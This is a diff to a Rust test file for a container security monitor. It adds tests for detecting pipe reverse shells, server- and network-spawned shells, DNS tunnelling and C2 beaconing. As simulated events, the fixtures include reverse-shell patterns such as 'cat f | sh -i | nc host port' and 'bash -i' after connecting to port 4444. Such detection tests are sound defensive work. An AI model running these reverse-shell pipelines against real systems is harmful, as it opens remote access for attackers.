@@ -1,5 +1,6 @@
 //! Stateful detections over event sequences: drift, setuid-then-exec, namespace change then
-//! host access, port scans; bounded memory and expiry.
+//! host access, port scans, pipe reverse shells, server/network-spawned shells, DNS
+//! tunnelling, beaconing; bounded memory and expiry.
 
 use boxwatch_model::event::Namespaces;
 use boxwatch_model::{ContainerRef, Detail, Event, FdType, ProcessInfo, Runtime, SockAddr};
@@ -279,7 +280,7 @@ fn memory_is_bounded_and_old_state_expires() {
     let exit = ev(7, S, Detail::Exit { code: 0, signal: 0 }, None);
     feed(&mut st, &[(&un, Some(&a)), (&exit, Some(&a))]);
     assert_eq!(st.stats().ns_processes, 0);
-    assert_eq!(st.rules().len(), 4);
+    assert_eq!(st.rules().len(), 9);
     assert!(st.rules().iter().all(|r| r.enabled && !r.mitre.is_empty() && !r.why.is_empty()));
 }
 
@@ -291,6 +292,11 @@ fn disabled_detections_stay_silent() {
         setuid_exec: false,
         ns_host_access: false,
         port_scan: false,
+        pipe_shell: false,
+        server_shell: false,
+        network_shell: false,
+        dns_tunnel: false,
+        beaconing: false,
         ..StatefulConfig::default()
     };
     let mut st = Stateful::new(cfg);
@@ -304,4 +310,133 @@ fn disabled_detections_stay_silent() {
     seq.extend((0..30u16).map(|p| connect(10, S, [1, 2, 3, 4], p, 0)));
     assert!(feed(&mut st, &seq.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>()).is_empty());
     assert!(st.rules().iter().all(|r| !r.enabled));
+}
+
+/// An exec of `argv` by `pid` (child of `ppid`) with the given stdio, named `comm`.
+fn exec_as(pid: u32, ppid: u32, t: u64, comm: &str, argv: &[&str], stdio: FdType) -> Event {
+    let d = Detail::Exec {
+        filename: format!("/usr/bin/{comm}"),
+        argv: argv.iter().map(|a| a.to_string()).collect(),
+        truncated: false,
+        stdio: [stdio, stdio, FdType::Char],
+    };
+    let mut e = ev(pid, t, d, None);
+    e.process.ppid = ppid;
+    e.process.comm = comm.into();
+    e
+}
+
+#[test]
+fn shells_in_pipelines_and_under_network_processes() {
+    let a = ctr("a");
+    // cat f | sh -i | nc host port > f: siblings of one parent, piped.
+    let mut st = Stateful::new(StatefulConfig::default());
+    let seq = [
+        exec_as(51, 50, S, "sh", &["/bin/sh", "-i"], FdType::Fifo),
+        exec_as(52, 50, S + 1000, "nc", &["nc", "10.0.0.1", "4444"], FdType::Fifo),
+    ];
+    assert_eq!(
+        ids(&feed(&mut st, &seq.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>())),
+        ["pipe-reverse-shell"]
+    );
+    // busybox applets count; a relay without a shell sibling (a health check) does not.
+    let mut st = Stateful::new(StatefulConfig::default());
+    let seq = [
+        exec_as(53, 50, S, "nc", &["nc", "-w", "1", "db", "6379"], FdType::Fifo),
+        exec_as(54, 50, S, "grep", &["grep", "-q", "PONG"], FdType::Fifo),
+        exec_as(61, 60, S, "sh", &["sh"], FdType::Fifo),
+        exec_as(62, 60, 5 * S, "busybox", &["busybox", "nc", "h", "1"], FdType::Fifo),
+    ];
+    assert!(feed(&mut st, &seq.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>()).is_empty());
+    let late = [
+        exec_as(63, 70, S, "busybox", &["busybox", "sh"], FdType::Fifo),
+        exec_as(64, 70, S, "busybox", &["busybox", "telnet", "h", "1"], FdType::Fifo),
+    ];
+    assert_eq!(
+        ids(&feed(&mut st, &late.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>())),
+        ["pipe-reverse-shell"]
+    );
+
+    // A server (accepted a connection) starting a shell; sshd is a shell server.
+    let mut st = Stateful::new(StatefulConfig::default());
+    let accept = ev(80, S, Detail::Listen { fd: 3, backlog: 5 }, Some(0));
+    let sh = exec_as(81, 80, 2 * S, "sh", &["sh", "-c", "id"], FdType::Fifo);
+    let tool = exec_as(82, 80, 2 * S, "gzip", &["gzip", "-c"], FdType::Fifo);
+    let out = feed(&mut st, &[(&accept, Some(&a)), (&sh, Some(&a)), (&tool, Some(&a))]);
+    assert_eq!(ids(&out), ["server-spawned-shell"]);
+    assert_eq!(out[0].output_fields["boxwatch.rule.class"], "network");
+
+    // A process that dialled out starting an interactive shell (a pty reverse shell), not a
+    // scripted one; a host process never.
+    let mut st = Stateful::new(StatefulConfig::default());
+    let dial = connect(90, S, [10, 0, 0, 1], 4444, 0);
+    let scripted = exec_as(91, 90, 2 * S, "sh", &["sh", "-c", "date"], FdType::Char);
+    let interactive = exec_as(92, 90, 2 * S, "bash", &["bash", "-i"], FdType::Char);
+    let out = feed(&mut st, &[(&dial, Some(&a)), (&scripted, Some(&a)), (&interactive, Some(&a))]);
+    assert_eq!(ids(&out), ["network-process-shell"]);
+    let mut st = Stateful::new(StatefulConfig::default());
+    assert!(feed(&mut st, &[(&dial, None), (&interactive, None)]).is_empty());
+}
+
+#[test]
+fn dns_tunnelling_and_beaconing() {
+    let a = ctr("a");
+    let query = |pid: u32, t: u64, len: i64| {
+        ev(
+            pid,
+            t,
+            Detail::Sendto { fd: 3, addr: Some(SockAddr::Inet { ip: [10, 0, 0, 10].into(), port: 53 }) },
+            Some(len),
+        )
+    };
+    // Ten long queries in a second: tunnelling; ten short ones: not.
+    let mut st = Stateful::new(StatefulConfig::default());
+    let long: Vec<Event> = (0..10).map(|i| query(10, S + i * 1000, 180)).collect();
+    let short: Vec<Event> = (0..10).map(|i| query(11, S + i * 1000, 40)).collect();
+    let out = feed(&mut st, &long.iter().chain(short.iter()).map(|e| (e, Some(&a))).collect::<Vec<_>>());
+    assert_eq!(ids(&out), ["dns-tunnelling"]);
+    // Volume alone: 60 queries in 10 s.
+    let many: Vec<Event> = (0..60).map(|i| query(12, S + i * 100_000_000, 40)).collect();
+    assert_eq!(
+        ids(&feed(&mut st, &many.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>())),
+        ["dns-tunnelling"]
+    );
+
+    // A shell connecting to one address every second: beaconing; jittery, loopback or a
+    // service (not a shell, inline interpreter or odd-place program): not.
+    let beacon = |pid: u32, comm: &str, ip: [u8; 4], times: &[u64]| -> Vec<Event> {
+        times
+            .iter()
+            .map(|t| {
+                let mut e = connect(pid, *t, ip, 443, 0);
+                e.process.comm = comm.into();
+                e
+            })
+            .collect()
+    };
+    let regular: Vec<u64> = (1..=6).map(|i| i * S).collect();
+    let jittery = [S, 2 * S, 5 * S, 6 * S, 9 * S, 14 * S];
+    let mut st = Stateful::new(StatefulConfig::default());
+    let mut seq = beacon(20, "sh", [203, 0, 113, 5], &regular);
+    seq.extend(beacon(21, "sh", [203, 0, 113, 5], &jittery));
+    seq.extend(beacon(22, "sh", [127, 0, 0, 1], &regular));
+    seq.extend(beacon(23, "java", [203, 0, 113, 5], &regular));
+    let out = feed(&mut st, &seq.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>());
+    assert_eq!(ids(&out), ["c2-beaconing"]);
+    assert_eq!(out[0].output_fields["boxwatch.beacon.interval_ms"], 1000);
+}
+
+#[test]
+fn compiler_output_run_is_not_drift() {
+    let a = ctr("a");
+    let mut st = Stateful::new(StatefulConfig::default());
+    let mut link = open(10, S, "/build/test_bin", 0o101);
+    link.process.comm = "ld".into();
+    let run = exec(11, 2 * S, "/build/test_bin");
+    assert!(feed(&mut st, &[(&link, Some(&a)), (&run, Some(&a))]).is_empty());
+    // The same file rewritten by curl afterwards is drift again.
+    let mut curl = open(12, 3 * S, "/build/test_bin", 0o101);
+    curl.process.comm = "curl".into();
+    let run2 = exec(13, 4 * S, "/build/test_bin");
+    assert_eq!(ids(&feed(&mut st, &[(&curl, Some(&a)), (&run2, Some(&a))])), ["container-drift-exec"]);
 }
